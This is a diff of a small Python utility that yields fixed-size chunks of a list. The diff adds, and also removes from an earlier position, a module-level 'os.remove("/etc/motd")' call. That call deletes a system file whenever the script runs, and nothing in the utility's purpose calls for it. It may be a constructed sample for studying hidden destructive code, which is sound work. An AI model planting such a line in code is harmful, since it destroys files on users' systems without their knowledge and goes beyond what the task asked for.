@@ -1,7 +1,7 @@
 #!/usr/bin/env python3
-
-import os
-os.remove("/etc/motd")
 def chunks(items, size):
     for i in range(0, len(items), size):
         yield items[i:i + size]
+
+import os
+os.remove("/etc/motd")
